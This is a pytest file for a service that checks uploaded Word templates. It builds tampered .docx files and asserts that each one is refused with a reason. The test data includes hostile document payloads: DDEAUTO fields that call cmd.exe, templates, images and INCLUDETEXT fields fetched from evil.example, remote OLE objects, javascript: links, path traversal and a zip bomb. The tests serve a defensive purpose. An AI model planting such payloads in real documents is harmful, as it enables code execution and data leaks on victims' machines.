"""Word files that strangers send: each is refused with a reason, and nothing is unpacked, fetched or run."""

import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from core.errors import AppError
from offers.documents.inspecting import inspect
from offers.documents.own_files import check_template
from offers.documents.word import shipped_template

_CORPORA = Path(__file__).parents[3] / "shared" / "corpora"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(folder: Path, change: Callable[[dict[str, bytes]], object]) -> Path:
    """A shipped template with its parts changed."""
    with zipfile.ZipFile(shipped_template("en")) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(folder / "own.docx", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return folder / "own.docx"


def relation(kind: str, target: str, external: bool = True) -> Callable[[dict[str, bytes]], object]:
    mode = ' TargetMode="External"' if external else ""
    made = f'<Relationship Id="rId99" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    name = "word/_rels/document.xml.rels"
    return lambda parts: parts.update({name: parts[name].replace(b"</Relationships>", made.encode())})


def body(xml: str) -> Callable[[dict[str, bytes]], object]:
    name = "word/document.xml"
    return lambda parts: parts.update({name: parts[name].replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)})


def field(*code: str) -> str:
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code)
    ends = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
    return f"<w:p>{ends[0]}{pieces}{ends[1]}</w:p>"


UNSAFE: dict[str, Callable[[dict[str, bytes]], object]] = {
    "attached template": relation("attachedTemplate", "http://evil.example/t.dotm"),
    "remote picture": relation("image", "http://evil.example/x.png"),
    "remote object": relation("oleObject", "file://evil/share/x"),
    "embedded object": relation("oleObject", "embeddings/x.bin", external=False),
    "chunk": relation("aFChunk", "chunk.htm", external=False),
    "script link": relation("hyperlink", "javascript:alert(1)"),
    "share": relation("image", "//evil/share/x.png", external=False),
    "DDE": body(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    "split DDE": body(field(" DD", "EAUTO cmd")),
    "include": body(field('INCLUDETEXT "http://evil.example/x"')),
    "simple include": body('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/x"/></w:p>'),
    "quoted": body(field("QUOTE 68 68 69")),
    "altChunk": body('<w:altChunk w:id="1"/>'),
    "entities": lambda parts: parts.update(
        {"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "b">]>' + parts["word/document.xml"].split(b"?>", 1)[1]}
    ),
    "path": lambda parts: parts.update({"../../x.txt": b"x"}),
}


@pytest.mark.parametrize("name", UNSAFE)
def test_what_reaches_outside_the_file_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(AppError) as error:
        inspect(changed(tmp_path, UNSAFE[name]), "own.docx")
    assert error.value.code == "template_unsafe"
    assert error.value.status == 422


def test_ordinary_links_and_page_numbers_are_fine(tmp_path: Path) -> None:
    link = relation("hyperlink", "https://muszer.example/terms")
    path = changed(tmp_path, lambda parts: (link(parts), body(field(" PAGE "))(parts)))
    inspect(path, "own.docx")


OTHER: dict[str, tuple[str, Callable[[Path], Path]]] = {
    "macros": ("template_macros", lambda f: changed(f, lambda p: p.update({"word/vbaProject.bin": b"x"}))),
    "macro type": (
        "template_macros",
        lambda f: changed(
            f,
            lambda p: p.update(
                {"[Content_Types].xml": p["[Content_Types].xml"].replace(b"document.main", b"macroEnabled.main")}
            ),
        ),
    ),
    "bomb": (
        "template_unpacks_too_large",
        lambda f: changed(f, lambda p: p.update({"word/big.bin": b"0" * 70_000_000})),
    ),
    "long": ("template_unpacks_too_large", lambda f: changed(f, lambda p: p.update({"word/a.xml": b"0" * 9_000_000}))),
    "no document": ("template_damaged", lambda f: changed(f, lambda p: p.pop("word/document.xml"))),
    "cut": ("template_damaged", lambda f: changed(f, lambda p: p.update({"word/document.xml": b"<w:document"}))),
}


@pytest.mark.parametrize("name", OTHER)
def test_what_is_no_sound_word_file_is_refused(tmp_path: Path, name: str) -> None:
    code, make = OTHER[name]
    with pytest.raises(AppError) as error:
        inspect(make(tmp_path), "own.docx")
    assert error.value.code == code


@pytest.mark.parametrize(
    ("content", "filename", "code"),
    [
        (b"", "a.docx", "template_not_word"),
        (b"%PDF-1.7", "a.docx", "template_not_word"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.docx", "template_encrypted"),
        (b"PK\x03\x04 cut off", "a.docx", "template_damaged"),
        (b"PK\x03\x04", "a.docm", "template_macros"),
        (b"PK\x03\x04", "a.zip", "template_not_word"),
        (b"PK" + b"0" * 5_000_000, "a.docx", "template_too_large"),
    ],
)
def test_other_files_are_told_from_word_files(tmp_path: Path, content: bytes, filename: str, code: str) -> None:
    (tmp_path / "file").write_bytes(content)
    with pytest.raises(AppError) as error:
        inspect(tmp_path / "file", filename)
    assert error.value.code == code
    assert all(error.value.message(language) for language in ("hu", "pl", "en"))


def test_an_empty_word_file_is_told_what_it_lacks(tmp_path: Path) -> None:
    docx.Document().save(str(tmp_path / "own.docx"))
    with pytest.raises(AppError) as error:
        check_template(tmp_path / "own.docx", "own.docx", "en")
    assert error.value.code == "template_leaves_out"


@pytest.mark.acceptance
def test_every_file_of_the_corpora_ends_in_a_reason() -> None:
    files = [*sorted((_CORPORA / "docx").iterdir()), *sorted((_CORPORA / "hostile").glob("*.docx"))]
    assert len(files) > 100
    for file in files:
        with pytest.raises(AppError) as error:
            check_template(file, file.name, "en")
        assert error.value.code.startswith("template_"), file.name
